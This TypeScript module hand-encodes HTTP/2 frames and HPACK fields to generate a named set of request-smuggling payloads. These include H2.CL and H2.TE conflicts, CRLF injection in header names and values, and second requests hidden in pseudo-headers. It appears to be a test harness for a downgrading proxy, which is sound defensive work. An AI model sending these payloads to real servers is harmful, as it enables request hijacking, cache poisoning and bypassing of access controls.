/** Of RFC 9113; a proxy that takes HTTP/2 writes it anew as HTTP/1, where line ends and lengths mean something. */
const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
const [DATA, HEADERS, SETTINGS] = [0, 1, 4] as const
const [NO_FLAGS, END_STREAM, END_HEADERS] = [0, 1, 4] as const

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head.writeUInt8(type, 3)
  head.writeUInt8(flags, 4)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

/** HPACK's integers: seven bits at a time, once the first byte's seven do not do. */
function length(value: number): readonly number[] {
  if (value < 127) return [value]
  const bytes = [127]
  let left = value - 127
  for (; left > 127; left >>= 7) bytes.push((left & 127) | 128)
  return [...bytes, left]
}

/** Literal, not indexed, not compressed: what a client's library would refuse to send. */
const field = ([name, value]: readonly [string, string]) => [
  0,
  ...length(name.length),
  ...Buffer.from(name, 'latin1'),
  ...length(value.length),
  ...Buffer.from(value, 'latin1'),
]

type Fields = readonly (readonly [string, string])[]

const request = (fields: Fields, body: string): Buffer =>
  Buffer.concat([
    Buffer.from(PREFACE),
    frame(SETTINGS, NO_FLAGS, 0, Buffer.alloc(0)),
    frame(HEADERS, body === '' ? END_HEADERS | END_STREAM : END_HEADERS, 1, Buffer.from(fields.flatMap(field))),
    ...(body === '' ? [] : [frame(DATA, END_STREAM, 1, Buffer.from(body, 'latin1'))]),
  ])

const fieldsFor = (path: string, method = 'POST'): Fields => [
  [':method', method],
  [':scheme', 'http'],
  [':authority', 'x'],
  [':path', path],
  ['content-type', 'application/json'],
]

/** Requests of HTTP/2 that would be two in HTTP/1, by the name of the trick; `inner` is the second. */
export function http2Attacks(inner: string): Readonly<Record<string, Buffer>> {
  const POST = fieldsFor('/api/webhooks')
  const after = `0\r\n\r\n${inner}`
  return {
    'HTTP/2 as it should be': request([...POST, ['content-length', String(inner.length)]], inner),
    'H2.CL': request([...POST, ['content-length', '0']], inner),
    'H2.CL, two lengths': request([...POST, ['content-length', String(inner.length)], ['content-length', '0']], inner),
    'H2.TE': request([...POST, ['transfer-encoding', 'chunked']], after),
    'H2.TE in capitals': request([...POST, ['Transfer-Encoding', 'chunked']], after),
    'a header with a line end in its value': request([...POST, ['x', 'a\r\ntransfer-encoding: chunked']], after),
    'a header with a line feed in its value': request([...POST, ['x', 'a\ntransfer-encoding: chunked']], after),
    'a header that is a request': request([...POST, ['x', `a\r\n\r\n${inner}`]], ''),
    'a header with a line end in its name': request([...POST, ['x: a\r\ntransfer-encoding', 'chunked']], after),
    'a header with a colon in its name': request([...POST, ['transfer-encoding: chunked\r\nx', 'a']], after),
    'a header with a zero byte': request([...POST, ['x', 'a\x00b']], inner),
    'a path that is a request': request(fieldsFor(`/healthz HTTP/1.1\r\n\r\n${inner}`, 'GET'), ''),
    'a path with a space': request(fieldsFor('/healthz HTTP/1.1\r\nx: y', 'GET'), ''),
    'a method that is a request': request(
      fieldsFor('/healthz', `GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n${inner}`),
      '',
    ),
    'an authority with a line end': request(
      fieldsFor('/healthz').map(([name, value]) => [name, name === ':authority' ? `x\r\n\r\n${inner}` : value]),
      '',
    ),
    'a scheme with a line end': request(
      fieldsFor('/healthz').map(([name, value]) => [
        name,
        name === ':scheme' ? `http://x/ HTTP/1.1\r\n\r\n${inner}` : value,
      ]),
      '',
    ),
    'a body with GET in HTTP/2': request(fieldsFor('/healthz', 'GET'), inner),
    'an upgrade within HTTP/2': request([...POST, ['connection', 'upgrade'], ['upgrade', 'h2c']], inner),
  }
}
